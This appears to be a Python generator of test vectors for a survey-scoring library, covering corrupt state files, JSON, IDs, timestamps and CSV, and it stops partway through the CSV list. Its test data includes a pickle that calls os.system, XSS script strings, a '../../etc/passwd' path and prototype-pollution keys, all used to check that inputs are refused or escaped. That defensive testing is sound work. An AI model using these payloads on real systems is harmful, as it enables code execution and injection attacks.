"""badinputs/manifest.json and badinputs/state/: inputs that must be refused, or read in one defined way. The files of badinputs/csv are as they are."""

import gzip
import json

import exact
import state_bytes
from vectors import FOLDER, plain

PLACE = FOLDER / "badinputs"
COUNTS = [1, 0, 0, 0, 0, 2, 0, 3, 4, 5, 6]
GOOD = state_bytes.tally(COUNTS)


def refused(code, row=None, field=None, **more):
    return {"error": {"code": code, "row": row, "field": field, **more}}


# ---------------------------------------------------------------- states: each kind of damage, in this layout

INVALID, VERSION, OVERFLOW = refused("invalid_state"), refused("unsupported_version"), refused("invalid_state")
HALF = len(GOOD) // 2
STATES = [
    ("00_good", GOOD, {"counts": COUNTS, "n": 21, "bytes": GOOD.hex()}, "n = 21; writes the same bytes again"),
    ("01_empty", b"", INVALID, "no bytes"),
    ("02_magic_only", b"CXM\x01", INVALID, "cut in the header"),
    ("03_bad_magic", state_bytes.sealed(state_bytes.tally_payload(COUNTS), magic=b"XXX"), INVALID, "not a CXM state, though its checksum is right"),
    ("04_future_version", state_bytes.sealed(state_bytes.tally_payload(COUNTS), version=999), VERSION, "version 999"),
    ("05_version0", state_bytes.sealed(state_bytes.tally_payload(COUNTS), version=0), VERSION, "version 0"),
    ("06_bitflip", GOOD[:20] + bytes([GOOD[20] ^ 1]) + GOOD[21:], INVALID, "one bit of the payload turned over: checksum"),
    ("06_bitflip_in_checksum", GOOD[:-1] + bytes([GOOD[-1] ^ 0x80]), INVALID, "one bit of the checksum turned over"),
    ("07_truncated", GOOD[:-1], INVALID, "one byte missing"),
    ("07_truncated_half", GOOD[:HALF], INVALID, "the second half missing"),
    ("08_trailing", GOOD + b"\0", INVALID, "one byte after the end"),
    ("09_valid_crc_overflow", state_bytes.tally([2**64 - 1] * 11), OVERFLOW, "right checksum, counts whose sum passes 2^53 and 2^64"),
    ("10_valid_crc_wrong_meaning", state_bytes.tally([0] * 11, missing=2**63), OVERFLOW, "right checksum, a count past 2^53"),
    ("11_zip", b"PK\x03\x04" + b"\0" * 50, INVALID, "a zip file"),
    ("12_pickle", b"\x80\x04cos\nsystem\n(S'echo pwned'\ntR.", INVALID, "a pickle: never unpickled"),
    ("13_length_lie", b"CXM\x01\x01\x00\xff\xff\xff\xff" + b"\0" * 16, INVALID, "says 4 GiB, holds 16 bytes: nothing is allocated for it"),
    ("13_list_length_lie", state_bytes.sealed(state_bytes.tally_payload([0] * 11, flags=2) + state_bytes.count(0) + b"\0\0" + state_bytes.count(2**40)), INVALID, "right checksum, a list said to be longer than the bytes"),
    ("14_random", bytes((x * 167 + 13) & 255 for x in range(106)), INVALID, "random bytes"),
    ("15_swapped_endian", GOOD[:4] + b"\x00\x01" + GOOD[6:], VERSION, "the version in the other byte order is 256"),
    ("16_utf8_mangled", GOOD.decode("latin-1").encode("utf-8"), INVALID, "sent as text"),
    ("16_replacement_characters", GOOD.decode("utf-8", "replace").encode(), INVALID, "decoded as UTF-8 and encoded again"),
    ("17_nan_scale", state_bytes.tally([0] * 11, scale=(float("nan"), 10, 1)), INVALID, "right checksum, a scale from NaN"),
    ("17_infinite_scale", state_bytes.tally([0] * 11, scale=(0, float("inf"), 1)), INVALID, "right checksum, a scale to infinity"),
    ("18_scale_of_millions", state_bytes.tally([0] * 11, scale=(0, 1e9, 1)), INVALID, "a scale of a billion points: nothing is allocated for it"),
    ("19_weights_without_answers", state_bytes.tally([0] * 11, weights=(1, [1] + [0] * 10, [1] + [0] * 10)), INVALID, "weights at a point that has no answers"),
    ("20_negative_weights", state_bytes.tally([2] + [0] * 10, weights=(2, [-1] + [0] * 10, [1] + [0] * 10)), INVALID, "a negative sum of weights"),
    ("21_weights_without_squares", state_bytes.tally([2] + [0] * 10, weights=(2, [1] + [0] * 10, [0] * 11)), INVALID, "a sum of weights without a sum of squares"),
    ("22_other_kind", state_bytes.sealed(state_bytes.tally_payload(COUNTS), kind=2), INVALID, "a cube is no tally"),
    ("23_unknown_kind", state_bytes.sealed(state_bytes.tally_payload(COUNTS), kind=200), INVALID, "no kind of state"),
    ("24_left_over", state_bytes.sealed(state_bytes.tally_payload(COUNTS) + b"\0"), INVALID, "right checksum, a byte of the payload left over"),
    ("25_unknown_flags", state_bytes.tally(COUNTS, flags=0x80), INVALID, "right checksum, unknown flags"),
    ("26_long_count", state_bytes.sealed(state_bytes.tally_payload(COUNTS)[:-3] + b"\x80\x00\0\0"), INVALID, "right checksum, a count not in its shortest form"),
    ("27_question_not_utf8", state_bytes.sealed(state_bytes.tally_payload([], flags=4)[:25] + b"\x02\xff\xfe" + b"\0" * 15), INVALID, "right checksum, an id that is no UTF-8"),
]

# ---------------------------------------------------------------- numerics

# Charig et al. 1986, BMJ 292: kidney stones, small and large; (successes, patients) of open surgery and of nephrolithotomy
SIMPSON = {"a": [(81, 87), (192, 263)], "b": [(234, 270), (55, 80)]}


def stones(arm):
    """A cube by the size of the stones: a success is a 5, anything else a 1."""
    (small, n_small), (large, n_large) = SIMPSON[arm]
    frame = {"size": ["small", "small", "large", "large"], "score": [5, 1, 5, 1], "n": [small, n_small - small, large, n_large - large]}
    return {"cube": {"spec": {"scale": [1, 5], "by": "size", "every": "none"}, "steps": [{"observe": {"frame": frame, "options": {"value": "score", "counts": "n"}}}]}}


def turned(*arms):
    return {"call": "compare", "a": stones(arms[0]), "b": stones(arms[1]), "metric": {"metric": "csat", "scale": [1, 5]}}


def nps(column, expect, **more):
    return {"call": "estimate", "name": "nps", "column": column, "expect": expect, **more}


NUMERICS = [
    ("01_n0", nps([], dict(estimate=None, std_error=None, conf_low=None, conf_high=None, n=0, n_eff=None, flags=["no_data"]))),
    ("02_n1", nps([9], dict(estimate=100.0, std_error=0.0, conf_high=100.0, n=1, flags=["low_base"]))),
    ("02_n1_mean", {"call": "estimate", "name": "csat", "column": [5], "options": {"rule": "mean"}, "expect": dict(estimate=5.0, std_dev=None, n=1)}),
    ("03_all_same", nps([9] * 50, dict(estimate=100.0, n=50, flags=[]))),
    ("03_all_same_has_a_width", nps([9] * 50, exact.estimate("nps", [exact.Answer(9, 50)], {}), tol={"rel": 1e-12})),
    ("03_all_same_compared", {"call": "compare", "a": {"column": [9] * 50}, "b": {"column": [9] * 50}, "metric": "nps", "options": {"method": "welch"}, "expect": dict(estimate=0.0, p_value=None, statistic=None, flags=["zero_variance"])}),
    ("04_all_zero", nps([0] * 50, dict(estimate=-100.0, n=50))),
    ("05_weights_zero", nps([9, 3], refused("invalid_weight", None, "weights"), weights=[0, 0])),
    ("06_weight_negative", nps([9, 3], refused("invalid_weight", 1, "weights"), weights=[1, -1])),
    ("07_weight_inf", nps([9, 3], refused("invalid_weight", 1, "weights"), weights=[1.0, {"float": "Infinity"}])),
    ("08_weight_tiny_huge", nps([9, 3, 5], dict(estimate=-100.0, n_eff=1.0), weights=[1e-300, 1e300, 1.0], tol={"rel": 1e-12})),
    ("09_weight_len", nps([9, 3], refused("length_mismatch", None, "weights"), weights=[1])),
    ("26_count_u64", {"call": "tally", "spec": {}, "steps": [{"from_counts": {"counts": [0, 0, 0, 0, 0, 0, 0, 0, 0, 1.8446744073709552e19, 1]}}], "expect": refused("count_overflow", 9, "counts")}),
    *[(f"27_alpha_{label}", nps([9, 3], refused("invalid_level", None, "level"), options={"level": level})) for label, level in (("0", 0), ("1", 1), ("negative", -0.1), ("nan", "NaN"))],
    ("28_simpson", {**turned("a", "b"), "expect": dict(estimate=-16 / 350, n_a=350, n_b=350, flags=["simpson"]), "tol": {"rel": 1e-12}}),
    ("28_simpson_the_other_way", {**turned("b", "a"), "expect": dict(estimate=16 / 350, flags=["simpson"]), "tol": {"rel": 1e-12}}),
    ("29_ties_all", {"call": "compare", "a": {"column": [5] * 10}, "b": {"column": [5] * 10}, "metric": "nps", "options": {"method": "mann_whitney"}, "expect": dict(p_value=1.0, statistic=50.0, effect_size=0.0, flags=["low_base"])}),
    ("30_expected_lt5", {"call": "compare", "a": {"column": [10]}, "b": {"column": [0]}, "metric": "nps", "options": {"method": "chi_square"}, "expect": dict(df=1.0, flags=["low_base", "sparse_cells"])}),
]

# ---------------------------------------------------------------- json: a tally's, with one thing wrong

TALLY = '{"cxm":"tally/1","scale":{"min":0.0,"max":10.0,"step":1.0,"direction":"higher_is_better"},"question":{"id":"nps","revision":1},"counts":[0,0,0,1,0,0,0,0,0,0,2],"n_missing":1,"n_invalid":0,"n_not_asked":0}'


def instead(old, new):
    assert TALLY.count(old) == 1, old
    return TALLY.replace(old, new)


def bad_json(code, pointer=None, **more):
    return refused(code, None, None, pointer=pointer, **more)


JSON = [
    ("00_good", TALLY, {"counts": [0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 2], "n": 3}, None),
    ("01_deep_200", "[" * 200 + "]" * 200, bad_json("nesting_too_deep", line=1), "200 nested lists; a million of them are refused as fast, see each language's tests"),
    ("01_deep_objects", '{"a":' * 200 + "1" + "}" * 200, bad_json("nesting_too_deep", line=1), "200 nested objects"),
    ("01_deep_inside", instead('"id":"nps"', '"id":' + "[" * 127 + "]" * 127), bad_json("nesting_too_deep", line=1), "127 lists in two objects: 129 deep"),
    ("01_as_deep_as_may_be", instead('"id":"nps"', '"id":' + "[" * 126 + "]" * 126), bad_json("invalid_json", "/question/id"), "128 deep, and no text"),
    ("01_brackets_in_a_text", instead('"id":"nps"', '"id":"' + "[" * 200 + '\\""'), {"n": 3}, "brackets in a text do not nest"),
    ("02_huge_int", instead('"n_missing":1', '"n_missing":123456789012345678901234567890'), bad_json("invalid_json", "/n_missing"), "a whole number of 30 digits"),
    ("03_1e400", instead('"max":10.0', '"max":1e400'), bad_json("invalid_json", line=1), "past the largest double"),
    ("05_dup_keys", instead('"n_missing":1', '"n_missing":1,"n_missing":2'), bad_json("duplicate_key", "/n_missing", got="n_missing"), "JSON.parse and Python's json take the last; none is taken here"),
    ("05_dup_keys_inside", instead('"revision":1', '"revision":1,"revision":1'), bad_json("duplicate_key", "/question/revision", got="revision"), None),
    ("06_lone_surrogate", instead('"id":"nps"', '"id":"\\ud83d"'), bad_json("invalid_json", line=1), "half a character"),
    ("07_wrong_types", instead('"counts":[0,', '"counts":["0",'), bad_json("invalid_json", "/counts/0"), "a text in place of a number"),
    ("07_list_for_object", instead('{"id":"nps","revision":1}', '["nps",1]'), bad_json("invalid_json", "/question"), "a list in the order of the keys is no object"),
    ("08_unknown_field", instead('"n_missing"', '"n_mising"'), bad_json("unknown_key", "/n_mising", got="n_mising"), "the nearest is named"),
    ("08_unknown_field_inside", instead('"step"', '"stop/~"'), bad_json("unknown_key", "/scale/stop~1~0", got="stop/~"), "a JSON Pointer escapes / and ~"),
    ("09_not_array", instead("[0,0,0,1,0,0,0,0,0,0,2]", '{"3":1,"10":2}'), bad_json("invalid_json", "/counts"), "an object in place of a list"),
    ("10_nan_literal", instead('"n_missing":1', '"n_missing":NaN'), bad_json("invalid_json", line=1), "Python's json writes it"),
    ("11_trailing_garbage", TALLY + " x", bad_json("invalid_json", line=1), None),
    ("12_proto", instead('"n_missing":1', '"n_missing":1,"__proto__":{"polluted":true}'), bad_json("unknown_key", "/__proto__"), "JavaScript's prototype is a key like another, and not known"),
    ("17_bom", "\ufeff" + TALLY, {"n": 3}, "a byte order mark at the start is ignored, as RFC 8259, 8.1 allows"),
]

# ---------------------------------------------------------------- ids: what a group is called


def groups(ids, expect):
    n = len(ids) if isinstance(ids, list) else len(next(iter(ids.values())))
    return {"call": "score", "frame": {"id": ids, "score": [10] * n}, "metric": "nps", "column": "score", "options": {"by": "id"}, "expect": expect}


def named(*ids):
    return {"rows": [{"id": one, "n": 1} for one in ids]}


IDS = [
    ("case", groups(["A1", "a1"], named("A1", "a1")), None),
    ("confusable", groups(["paypal", "p\u0430ypal"], named("paypal", "p\u0430ypal")), None),
    ("control", groups(["a\u0000b", "a\nb"], named("a\u0000b", "a\nb")), "a group's name is data: kept as it is, escaped where it is shown"),
    ("email", groups(["jane.doe@example.com"], named("jane.doe@example.com")), "a group's name is data; no error message holds one"),
    ("empty", groups([""], named("")), "an empty text is a group; missing is another (null, last)"),
    ("empty_and_missing", groups(["", None], named("", None)), None),
    ("float_id", groups([1.0, 1.0], {"rows": [{"n": 2}]}), "1.0 and 1 are one number in every language"),
    ("int53", groups({"i64": ["9007199254740993", "9007199254740992"]}, {"rows": [{"n": 1}, {"n": 1}]}), "two groups"),
    ("int64max", groups({"i64": ["9223372036854775807", "-9223372036854775808"]}, {"rows": [{"n": 1}, {"n": 1}]}), None),
    ("u64", groups({"u64": ["18446744073709551615", "18446744073709551614"]}, {"rows": [{"n": 1}, {"n": 1}]}), "two groups, not one float"),
    ("leading_zero", groups(["007", "7"], named("007", "7")), None),
    ("long", groups(["x" * 100_000], {"rows": [{"n": 1}]}), "a group's name has no limit of its own"),
    ("nfc_nfd", groups(["caf\u00e9", "cafe\u0301"], named("cafe\u0301", "caf\u00e9")), "never normalised; text sorts by its bytes"),
    ("path", groups(["../../etc/passwd"], named("../../etc/passwd")), "never used as a path"),
    ("rtl", groups(["\u202eabc"], named("\u202eabc")), "a group's name is data: kept as it is, escaped where it is shown"),
    ("sci_excel", groups(["1E5", "100000"], named("100000", "1E5")), None),
    ("space", groups(["a", " a", "a ", "a\u00a0"], named(" a", "a", "a ", "a\u00a0")), "never trimmed"),
    ("zero_width", groups(["a", "a\u200b"], named("a", "a\u200b")), None),
    ("proto", groups(["__proto__", "constructor"], named("__proto__", "constructor")), "group names that are keys of objects"),
]

# ---------------------------------------------------------------- documents and records in JSON, a list or one

RESPONSE = '{"id":"a","survey":"s","rev":1,"at":"2026-11-21T09:00:00Z","status":"complete","answers":{"q":{"score":9}}}'


def response(old="", new=""):
    assert RESPONSE.count(old) == 1 or not old, old
    return RESPONSE.replace(old, new) if old else RESPONSE


def found(*problems):
    return {"problems": [dict(zip(("code", "severity", "pointer"), problem)) for problem in problems]}


NONE = found()
RECORDS_JSON = [
    ("01_deep_200", "[" * 200 + "]" * 200, found(("nesting_too_deep", "error", "")), None),
    ("01_deep_inside", response('{"score":9}', "[" * 150 + "]" * 150), found(("nesting_too_deep", "error", "")), None),
    ("02_huge_int", response('{"score":9}', '{"score":123456789012345678901234567890}'), found(("out_of_range", "error", "/answers/q/score")), "a whole number of 30 digits"),
    ("03_1e400", response('"rev":1', '"rev":1,"weight":1e400'), found(("invalid_json", "error", "")), "past the largest double"),
    ("04_1e-400", response('"rev":1', '"rev":1,"weight":1e-400'), NONE, "below the smallest double: 0"),
    ("05_dup_keys", "[" + response('"rev":1', '"rev":1,"rev":2') + "]", found(("duplicate_key", "error", "/0/rev")), "JSON.parse and Python's json take the last; none is taken here"),
    ("06_lone_surrogate", response('"id":"a"', '"id":"\\ud83d"'), found(("invalid_json", "error", "")), "half a character"),
    ("07_wrong_types", "[" + ",".join(response('"id":"a"', f'"id":{value}') for value in ("1", "null", '["x"]')) + "]", found(*[("invalid_json", "error", f"/{row}/id") for row in range(3)]), "every one is listed"),
    ("08_unknown_field", "[" + response('"rev":1', '"rev":1,"scroe":9') + "]", found(("unknown_key", "warning", "/0/scroe")), "kept, with a warning: it may come from a newer format (changed: it was to be an error; `strict` makes it one)"),
    ("09_not_array", RESPONSE, NONE, "one record or a list of them (changed: it was to be an error)"),
    ("10_nan_literal", response('"rev":1', '"rev":1,"weight":NaN'), found(("invalid_json", "error", "")), "Python's json writes it"),
    ("11_trailing_garbage", f"[{RESPONSE}] x", found(("invalid_json", "error", "")), None),
    ("12_proto", response('"rev":1', '"rev":1,"__proto__":{"polluted":true},"constructor":{"prototype":{"p":1}}'), found(("unknown_key", "warning", "/__proto__"), ("unknown_key", "warning", "/constructor")), "keys like others, and not known"),
    ("14_bigint_id", "[" + ",".join(response('"id":"a"', f'"id":{value}') for value in (9007199254740993, 9007199254740992)) + "]", found(("invalid_json", "error", "/0/id"), ("invalid_json", "error", "/1/id")), "an id is a text, so no two become one"),
    ("17_bom", "\ufeff" + RESPONSE, NONE, "a byte order mark at the start is ignored, as RFC 8259, 8.1 allows"),
    ("18_negzero", response('{"score":9}', '{"score":-0}'), NONE, None),
    ("19_float_int", response('{"score":9}', '{"score":9.0}'), NONE, "9.0 is 9"),
    ("20_many_keys_hashflood", response('"rev":1', '"rev":1,"props":' + json.dumps({f"k{i}": i for i in range(300)}, separators=(",", ":"))), NONE, "keys are looked up in ordered maps or with keyed hashes"),
]

TWO = {"id": None, "status": "active", "identities": []}


def customers(*ids):
    return json.dumps([{**TWO, "id": one} for one in ids], separators=(",", ":"))


def refused_ids(*rows, code="invalid_document"):
    return found(*[(code, "error", f"/{row}/id") for row in rows])


RECORD_IDS = [
    ("confusable", customers("paypal", "p\u0430ypal"), NONE, "two ids, never folded"),
    ("nfc_nfd", customers("caf\u00e9", "cafe\u0301"), NONE, "two ids, never normalised"),
    ("case", customers("A1", "a1"), NONE, "two ids"),
    ("leading_zero", customers("007", "7"), NONE, "two ids"),
    ("sci_excel", customers("1E5", "100000"), NONE, "two ids"),
    ("path", customers("../../etc/passwd"), NONE, "never used as a path"),
    ("space", customers("a", " a", "a ", "a\u00a0"), refused_ids(1, 2, 3), "an id of a document has no blanks, so none is trimmed in silence (changed: four ids)"),
    ("zero_width", customers("a", "a\u200b"), refused_ids(1), "an id that looks like another is refused (changed: two ids and a warning)"),
    ("empty", customers(""), refused_ids(0), None),
    ("long", customers("x" * 257, "x" * 256), refused_ids(0), "256 bytes at most"),
    ("control", customers("a\u0000b", "a\nb"), refused_ids(0, 1), None),
    ("rtl", customers("\u202eabc"), refused_ids(0), None),
    ("email", customers("jane.doe@example.com"), found(("V-C1", "warning", "/0/id")), "the message does not show it"),
    ("int53", customers(9007199254740993, 9007199254740992), refused_ids(0, 1, code="invalid_json"), "an id is a text"),
    ("int64max", customers(9223372036854775807, -9223372036854775808), refused_ids(0, 1, code="invalid_json"), "an id is a text (changed: kept as a number)"),
    ("u64", customers(18446744073709551615), refused_ids(0, code="invalid_json"), "an id is a text"),
    ("float_id", customers(1.0, 1), refused_ids(0, 1, code="invalid_json"), "an id is a text"),
    ("bool", customers(True, 1, "true"), refused_ids(0, 1, code="invalid_json"), "an id is a text"),
]

# ---------------------------------------------------------------- journeys: a model with one thing wrong


def touchpoint(one, **more):
    return {"id": one, "name": {"en": one}, "kind": "communication", "channels": ["web"], "matches": {"event": {"type": one}}, "owner": "emp:mia", **more}


def stage(one, kind, *touchpoints):
    return {"id": one, "name": {"en": one}, "kind": kind, "touchpoints": list(touchpoints)}


def journey(*stages, flow=("t", "u"), **more):
    steps = flow if isinstance(flow, dict) else {"seq": [{"step": one} for one in flow]}
    return {"id": "j", "name": {"en": "J"}, "persona": "p", "stages": list(stages), "flow": steps, **more}


def model(one, **more):
    persona = {"id": "p", "name": {"en": "P"}, "needs": [{"id": "n", "text": {"en": "N"}}], "challenges": [{"id": "c", "text": {"en": "C"}}], "narrativeOnly": True}
    version = {"seq": 1, "at": "2026-11-21T09:00:00Z", "author": "emp:mia"}
    document = {"cxm": "1.1", "id": "m", "version": version, "personas": [persona], "journeys": [one], "goals": [], "channels": [{"id": "web", "kind": "website"}], **more}
    return json.dumps(document, separators=(",", ":"))


FIRST, LAST = stage("a", "awareness", touchpoint("t")), stage("b", "use", touchpoint("u"))
GOAL = {"id": "g", "name": {"en": "G"}, "action": {"event": {"type": "buy"}}, "population": "customers", "start": {"event": {"type": "come"}}, "objective": "o"}
JOURNEYS = [
    ("00_good", model(journey(FIRST, LAST)), NONE, None),
    ("01_cycle", model(journey(FIRST, LAST, flow={"loop": {"seq": [{"step": "t"}, {"step": "u"}]}})), NONE, "a cycle is written as a loop of the flow, and is legal; what it means for a score is that of event logs"),
    ("02_unknown_touchpoint", model(journey(FIRST, LAST, flow=("t", "nope", "u"))), found(("V-J3", "error", "/journeys/0/flow/seq/1/step")), "a stage holds its touchpoints; what names them is the flow"),
    ("03_dup_stage", model(journey(FIRST, {**LAST, "id": "a"})), found(("V-J5", "error", "/journeys/0/stages/1/id")), None),
    ("04_dup_touchpoint", model(journey(FIRST, stage("b", "use", touchpoint("t", matches={"event": {"type": "u"}})), flow=("t",))), found(("V-J5", "error", "/journeys/0/stages/1/touchpoints/0/id")), None),
    ("05_empty_stages", model(journey(flow=())), found(("V-ST1", "error", "/journeys/0/stages")), None),
    ("06_stage_no_touchpoints", model(journey(FIRST, stage("b", "use"), flow=("t",))), found(("V-ST2", "warning", "/journeys/0/stages/1/touchpoints")), None),
    ("07_orphan_touchpoint", model(journey(FIRST, LAST, flow=("t",))), found(("V-J3", "error", "/journeys/0/stages/1/touchpoints/0")), "an error by rule V-J3: what the flow leaves out is never met (changed: a warning)"),
    ("08_self_loop", model(journey(FIRST, LAST, flow={"seq": [{"loop": {"step": "t"}}, {"step": "u"}]})), NONE, "a repeat"),
    ("09_unknown_persona", model(journey(FIRST, LAST, persona="ghost")), found(("unknown_id", "error", "/journeys/0/persona")), None),
    ("10_goal_target_nan", model(journey(FIRST, LAST), goals=[{**GOAL, "target": 50}]), found(("out_of_range", "error", "/goals/0/target")), "a goal has no baseline, so that progress from it cannot be 0/0; its target is a share"),
    ("10_goal_target_nan_literal", model(journey(FIRST, LAST), goals=[{**GOAL, "target": float("nan")}]), found(("invalid_json", "error", "")), None),
    ("11_xss_names", model(journey(stage("a", "awareness", touchpoint("t", name={"en": "</title></svg><script>alert(1)</script>"})), LAST, name={"en": "<img src=x onerror=alert(1)>"})), NONE, "texts are kept as they are; what shows them escapes them"),
    ("11_xss_id", model(journey(FIRST, LAST, id='j"><script>alert(1)</script>')), NONE, "an id is a text without blanks; what shows it escapes it"),
    ("14_self_parent", model(journey(FIRST, LAST), teams=[{"id": "a", "name": {"en": "A"}, "parent": "b"}, {"id": "b", "name": {"en": "B"}, "parent": "a"}]), found(("V-TM1", "error", "/teams/1/parent")), "journeys have no parents; teams and topics do"),
    ("14_self_parent_of_a_topic", model(journey(FIRST, LAST), taxonomies=[{"id": "x", "rev": 1, "concepts": [{"id": "a", "label": {"en": "A"}, "broader": "a"}]}]), found(("V-TX1", "error", "/taxonomies/0/concepts/0/broader")), None),
]
MANY_HEAD, MANY_TAIL = model(journey("STAGES", FIRST, flow=("t",))).split('"STAGES",')

# ---------------------------------------------------------------- time: in which day a time falls


def day(text, expect, tz=None):
    options = {"time": "at", "every": "day", **({"tz": tz} if tz else {})}
    column = text if isinstance(text, (list, dict)) else [text]
    n = len(column) if isinstance(column, list) else len(next(iter(column.values())))
    rows = {"rows": [{"period": expect, "n": n}]} if isinstance(expect, str) else expect
    return {"call": "score", "frame": {"at": column, "score": [10] * n}, "metric": "nps", "column": "score", "options": options, "expect": rows}


NO_TIME = refused("invalid_time", 0, "at")
AFTER_ONE = "Etc/GMT+1"  # its day begins at 01:00Z, between the two 02:30 of Berlin
TIMES = [
    ("dst_gap", day("2026-03-29T02:30:00[Europe/Berlin]", NO_TIME), "the clocks skip it"),
    ("dst_fold", day("2026-10-25T02:30:00[Europe/Berlin]", "2026-10-24", AFTER_ONE), "the earlier one, 00:30Z"),
    ("dst_fold_off", day("2026-10-25T02:30:00+01:00[Europe/Berlin]", "2026-10-25", AFTER_ONE), "the later one, 01:30Z"),
    ("dst_bad_off", day("2026-10-25T02:30:00+05:00[Europe/Berlin]", NO_TIME), None),
    ("leap_second", day("2016-12-31T23:59:60Z", "2017-01-01"), "the second after it"),
    ("false_leap", day("2026-01-01T12:00:60Z", NO_TIME), None),
    ("year0", day("0000-01-01T00:00:00Z", NO_TIME), None),
    ("year9999", day("9999-12-31T23:59:59Z", NO_TIME), None),
    ("year10000", day("+010000-01-01T00:00:00Z", NO_TIME), None),
    ("neg", day("-0001-01-01T00:00:00Z", NO_TIME), None),
    ("epoch_s", day("1767322645", NO_TIME), "a unit is declared, never guessed"),
    ("epoch_s_number", day({"i64": [1767322645]}, NO_TIME), "a unit is declared, never guessed"),
    ("epoch_ms", day("1767322645000", NO_TIME), None),
    ("epoch_us", day("1767322645000000", NO_TIME), None),
    ("epoch_float", day("1767322645.123456789", NO_TIME), None),
    ("excel_serial", day("46024.123", NO_TIME), None),
    ("us_date", day("01/02/2026 03:04", NO_TIME), "day and month could be either"),
    ("ok_z", day("2026-01-02T03:04:05Z", "2026-01-02"), None),
    ("ok_space", day("2026-01-02 03:04:05", "2026-01-02"), "wall-clock time in `tz`, UTC unless it is named (changed: CONTRACT reads naive times so)"),
    ("ok_space_in_a_zone", day("2026-01-02 03:04:05", "2026-01-02", "Pacific/Auckland"), "wall-clock time in `tz`"),
    ("off_hhmm", day("2026-01-02T03:04:05+0530", "2026-01-01"), "21:34:05Z the day before"),
    ("off_hh", day("2026-01-02T03:04:05+05", "2026-01-01"), "22:04:05Z the day before"),
    ("off_24", day("2026-01-02T03:04:05+24:00", NO_TIME), None),
    ("off_neg0", day("2026-01-02T03:04:05-00:00", "2026-01-02"), None),
    ("lower", day("2026-01-02t03:04:05z", "2026-01-02"), None),
    ("feb29", day("2026-02-29T00:00:00Z", NO_TIME), None),
    ("hour24", day("2026-01-02T24:00:00Z", NO_TIME), None),
    ("ns10", day("2026-01-02T23:59:59.9999999999Z", "2026-01-02"), "cut, not rounded into the next day"),
    ("unknown_zone", day("2026-01-02T03:04:05[Mars/Base]", refused("unknown_zone", 0, "at")), None),
    ("future", day("2126-01-02T03:04:05Z", "2126-01-02"), "the core has no clock, so it does not know what is the future"),
    ("week_53", day("2026-W53-7", NO_TIME), None),
    ("samoa_skip", day("2011-12-30T12:00:00[Pacific/Apia]", NO_TIME), None),
    ("half_hour_dst", day("2026-04-05T01:45:00[Australia/Lord_Howe]", "2026-04-04"), "the earlier one, 14:45Z the day before"),
    (
        "day_buckets_dst",
        {
            **day(["2026-03-28T22:59:59Z", "2026-03-28T23:00:00Z", "2026-03-29T21:59:59Z", "2026-03-29T22:00:00Z"], "", "Europe/Berlin"),
            "expect": {"rows": [{"period": "2026-03-28", "n": 1}, {"period": "2026-03-29", "n": 2}, {"period": "2026-03-30", "n": 1}]},
        },
        "a day of 23 hours",
    ),
]

# ---------------------------------------------------------------- CSV


def read(accounts=None, answers=None, rejected=(), **more):
    n_scored, n_missing, n_rejected, n_excluded = accounts
    expect = {"accounts": dict(n_read=sum(accounts), n_scored=n_scored, n_missing=n_missing, n_rejected=n_rejected, n_excluded=n_excluded), "answers": answers}
    expect["rejected"] = [dict(zip(("row", "line", "field", "code"), one)) for one in rejected]
    return {**expect, **more}


def score(row, code, line=None):
    return row, line or row + 2, "score", code


# name of the file, what is read of it, options, why. Unless a time is named, none is read; unless questions are, `score` is an NPS.
CSV = [
    ("01_bom", read((1, 0, 0, 0), [9]), None, "the byte order mark is no part of the first name"),
    ("02_crlf", read((1, 0, 0, 0), [9]), None, None),
    ("03_cr_only", read((1, 0, 0, 0), [9]), None, "lines end with CR alone"),
    ("04_qualtrics3", read((2, 0, 0, 0), [10, 3], lines=[5, 6], times=["2026-01-02T10:04:05Z", "2026-01-02T10:05:05Z"]), {"questions": {"Q1": "nps"}, "time": "StartDate"}, "three header rows, one with a newline; times stand in America/Denver"),
    ("05_quoted_newline", read((2, 0, 0, 0), [9, 2], lines=[2, 4]), None, "the second response is row 1 and begins on line 4"),
    ("06_unclosed_quote", refused("invalid_csv", 0, line=2), None, "the quote was opened on line 2; it would swallow the file"),
    ("07_missing_column", refused("unknown_column", None, "score"), None, None),
    ("08_short_row", read((1, 0, 1, 0), [8], [(0, 2, None, "invalid_csv")]), None, "a rejected row, and the reading goes on (changed: the default is on_error=reject)"),
    ("08_short_row_stops", refused("invalid_csv", 0, None, line=2), {"on_error": "error"}, "with on_error=error it stops"),
    ("09_long_row", read((0, 0, 1, 0), [], [(0, 2, None, "invalid_csv")]), None, "a rejected row (changed: the default is on_error=reject)"),
    ("10_duplicate_header", refused("duplicate_id", None, "score", line=1), None, "never the last of two"),
    ("11_duplicate_ids", refused("duplicate_id", 1, "id", line=3), None, None),
    ("11_duplicate_ids_first", read((1, 0, 0, 2), [9]), {"duplicates": "first"}, None),
    ("11_duplicate_ids_last", read((1, 0, 0, 2), [2]), {"duplicates": "last"}, None),
    ("11_duplicate_ids_count", read((3, 0, 0, 0), [9, 9, 2]), {"duplicates": "count"}, None),
    ("12_score_11", read((0, 0, 1, 0), [None], [score(0, "out_of_range")]), None, None),
    ("12_score_11_stops", refused("out_of_range", 0, "score", line=2), {"on_error": "error"}, None),
    ("13_score_negative", read((0, 0, 1, 0), [None], [score(0, "out_of_range")]), None, None),
    ("14_score_decimal", read((1, 0, 1, 0), [None, 9], [score(0, "not_an_integer")]), None, "9.0 is 9"),
    ("15_label_scores", read((3, 0, 0, 0), [10, 0, 5]), None, None),
    ("16_empty_null_nan", read((1, 7, 0, 0), [None] * 7 + [7]), None, "seven words for no answer are counted, never 0"),
    ("17_missing_codes", read((1, 0, 2, 0), [None, None, 7], [score(0, "out_of_range"), score(1, "out_of_range")]), None, "unless na=(99, -99)"),
    ("18_german_decimal", read((2, 0, 0, 0), [9, 8]), None, "the semicolon is found; the amounts are text here"),
    ("19_ambiguous_thousands", refused("unknown_column", None, "score"), None, "it has no score; its amount is text"),
    ("20_utf16le", read((1, 0, 0, 0), [9]), None, "decoded by its byte order mark"),
    ("21_utf16be_nobom", refused("invalid_encoding", None, None, line=1), None, "a NUL at offset 0: likely UTF-16"),
    ("22_latin1", refused("invalid_encoding", 0, "comment", line=2), None, None),
    ("22_latin1_named", read((1, 0, 0, 0), [9]), {"encoding": "latin1"}, None),
    ("23_mojibake", read((1, 0, 0, 0), [9]), None, "kept as it is"),
    ("24_nul_bytes", read((0, 0, 1, 0), [], [(0, 2, "comment", "invalid_csv")]), None, "a NUL is in no text"),
    ("25_truncated", read((1, 0, 1, 0), [9], [(1, 3, None, "invalid_csv")], times=["2026-01-02T03:04:05Z"]), {"time": "at"}, "the cut row is short"),
